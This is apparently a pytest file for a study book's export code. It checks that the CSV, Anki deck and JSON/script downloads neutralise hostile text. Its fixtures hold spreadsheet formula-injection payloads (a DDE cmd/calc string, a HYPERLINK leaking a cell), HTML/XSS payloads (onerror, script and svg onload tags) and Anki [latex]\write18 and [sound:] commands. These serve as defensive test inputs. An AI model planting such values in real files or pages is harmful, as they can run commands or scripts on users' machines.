"""The downloads with hostile text in them: the CSV opens as text in a spreadsheet, the Anki deck shows
data as text, and the JSON and the data scripts cannot break out of a <script> they are inlined in.

The hostile values are put in with model_copy, past validation, as if a check had let them through:
the exports must be safe on their own (defence in depth)."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import shutil
import subprocess
from html.parser import HTMLParser

import pytest

from macros.anki import facts
from macros.export import (
    book_export,
    embeddable_json,
    export_csv,
    export_json,
    finder_script,
    quiz_script,
    spreadsheet_cell,
)
from macros.graph import Graph
from macros.loader import load_book

FORMULAS = ['=HYPERLINK("https://example.org/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\tTabbed", "\rReturned", "  =1+1", "\uff1dSUM(1)", "\uff0b1", "\uff0d1",
            "\uff201", "\u00a0=1+1", "\u3000@SUM(1)", "\u2003-1", "\u200b=1", " \u00a0\t+1"]
MARKUP = ['<img src=x onerror="alert(1)">', "</b></li></ul><script>alert(2)</script>",
          "[sound:../../x.mp3]", "[latex]\\write18{id}[/latex]", "Fish & <chips>", 'quote " and , and ;',
          "line\u2028break\u2029para", "<!--", "]]>"]


@pytest.fixture()
def hostile_graph(valid_data) -> Graph:
    book = load_book(valid_data)
    alpha = book.entities["alpha-disease"].model_copy(update={
        "title": FORMULAS[0] + MARKUP[0],
        "key_features": [*FORMULAS[1:], *MARKUP, "See [[beta-sign]] and [[beta-sign|<i onmouseover=x>b</i>]]"],
        "summary": MARKUP[1]})
    beta = book.entities["beta-sign"].model_copy(update={"title": MARKUP[1] + MARKUP[2]})
    top = book.differentials["top-list"]
    items = [item.model_copy(update={"label": label, "note": note}) for item, label, note in
             zip(top.items, [FORMULAS[2], FORMULAS[3]], [FORMULAS[4] + MARKUP[5], "[[alpha-disease]] " + MARKUP[0]])]
    aunt_minnie = top.model_copy(update={
        "title": FORMULAS[5], "parent": None,
        "items": [top.items[1].model_copy(update={"note": "Like [[beta-sign|<svg onload=x>]] " + MARKUP[0]})]})
    return Graph(dataclasses.replace(
        book, entities={**book.entities, "alpha-disease": alpha, "beta-sign": beta},
        differentials={**book.differentials, "top-list": top.model_copy(update={
            "title": FORMULAS[6], "items": items}), "aunt-minnie": aunt_minnie}))


# ---- CSV ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Gout", "", "A-B", "1-2", "x=y", "'quoted", "Fish & chips"])
def test_an_ordinary_cell_is_left_alone(value):
    assert spreadsheet_cell(value) == value


def test_csv_cells_are_quoted_neutralised_and_lossless(hostile_graph):
    text = export_csv(hostile_graph, "1.0")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == sum(1 for list_id in hostile_graph.book_order()
                            for _ in hostile_graph.book.differentials[list_id].grouped_items())
    cells = [cell for row in body for cell in row]
    assert all(len(row) == len(header) for row in rows)  # no separator or line break split a cell
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b",
                                                "\uff0d", "\uff20")), cell
    # Every hostile value is there, whole, behind its quote.
    for value in [FORMULAS[0] + MARKUP[0], FORMULAS[2], FORMULAS[3], FORMULAS[4] + MARKUP[5], FORMULAS[5],
                  FORMULAS[6]]:
        assert "'" + value in cells
    # Every field of every line is quoted, so a spreadsheet cannot re-split it.
    assert text.startswith('"list_id","list_title",')


# ---- Anki ---------------------------------------------------------------------------------------

class _Markup(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.tags.append(("!--", []))


def _markup(html: str) -> _Markup:
    parser = _Markup()
    parser.feed(html)
    parser.close()
    return parser


def test_anki_fields_show_hostile_text_as_text(hostile_graph):
    cards = facts(hostile_graph)
    shown = ""
    for card in cards:
        for field in (card.front, card.back):
            markup = _markup(field)
            # Only the deck's own markup, with no attribute at all: the data added none.
            assert {tag for tag, _ in markup.tags} <= {"b", "ul", "li"}, field
            assert all(attrs == [] for _, attrs in markup.tags), field
            assert "[" not in field  # no [sound:…], [latex] or [$] command for Anki
            shown += "\n".join(markup.text) + "\n"
    for value in [MARKUP[0], MARKUP[2], "Fish & <chips>", "<i onmouseover=x>b</i>", "<svg onload=x>",
                  MARKUP[1] + MARKUP[2]]:
        assert value in shown, value  # lossless: the reader sees exactly what was written
    assert "[[" not in shown  # wiki links became their text


def test_anki_pattern_cards_show_link_text_not_link_markup(hostile_graph):
    pattern = next(card for card in facts(hostile_graph) if card.key.startswith("aunt-minnie:"))
    assert "".join(_markup(pattern.front).text) == "Name this pattern: Like <svg onload=x> " + MARKUP[0]


def test_anki_picture_cards_show_hostile_text_as_text(hostile_graph):
    from macros.picture_questions import PictureQuestion

    question = PictureQuestion(
        key="picture:alpha-disease:0", kind="entity", answer="alpha-disease", name=MARKUP[1] + MARKUP[2],
        source="assets/images/x.svg", file="assets/images/quiz/0123456789abcdef.svg", svg="<svg/>",
        alt=MARKUP[0] + MARKUP[3], caption=MARKUP[4] + MARKUP[1], size=(320, 240), wrong=("b", "c", "d"))
    [card] = facts(hostile_graph, [question])[-1:]
    for field in (card.front, card.back):
        markup = _markup(field)
        assert {tag for tag, _ in markup.tags} <= {"b", "br", "ul", "li", "img"}, field
        assert "[" not in field
    [(_, attributes)] = [tag for tag in _markup(card.front).tags if tag[0] == "img"]
    assert dict(attributes) == {"src": "stc-0123456789abcdef.svg", "alt": MARKUP[0] + MARKUP[3],
                                "width": "320", "height": "240"}
    assert MARKUP[4] + MARKUP[1] in "".join(_markup(card.back).text)


# ---- JSON and the data scripts ----------------------------------------------------------------------

EDITION = {"version": "1.0", "date": "2024-01-01"}


@pytest.mark.parametrize("value", [MARKUP, {"a</script>": "<!--<script>"}, "\u2028\u2029&"])
def test_embeddable_json_round_trips_and_holds_no_breaking_character(value):
    text = embeddable_json(value)
    assert json.loads(text) == value
    assert not set(text) & {"<", ">", "&", "\u2028", "\u2029"}


def test_json_download_is_embeddable_and_lossless(hostile_graph):
    export = book_export(hostile_graph, EDITION, True)
    text = export_json(export)
    assert not set(text) & {"<", ">", "&", "\u2028", "\u2029"}
    document = json.loads(text)
    assert document["entities"]["alpha-disease"]["title"] == FORMULAS[0] + MARKUP[0]
    assert MARKUP[8] in document["entities"]["alpha-disease"]["key_features"]


@pytest.mark.parametrize(("make", "name"), [(finder_script, "STC_FINDER"), (quiz_script, "STC_QUIZ")])
def test_data_scripts_cannot_break_out_and_read_back_unchanged(hostile_graph, tmp_path, make, name):
    export = book_export(hostile_graph, EDITION, True)
    script = make(export)
    assert not set(script) & {"<", ">", "&", "\u2028", "\u2029"}
    assert "</script" not in script.lower() and "<!--" not in script
    if shutil.which("node") is None:
        pytest.skip("node is not installed: the script was checked as text only")
    (tmp_path / "data.js").write_text(script, encoding="utf-8")
    runner = ("global.window = {}; require(process.argv[1]); "
              f"process.stdout.write(JSON.stringify(window.{name}.entities['alpha-disease']))")
    result = subprocess.run(["node", "-e", runner, str(tmp_path / "data.js")],
                            capture_output=True, text=True, check=True)
    alpha = json.loads(result.stdout)
    assert alpha["title"] == FORMULAS[0] + MARKUP[0]
    assert alpha["summary"] == export.entities["alpha-disease"].summary
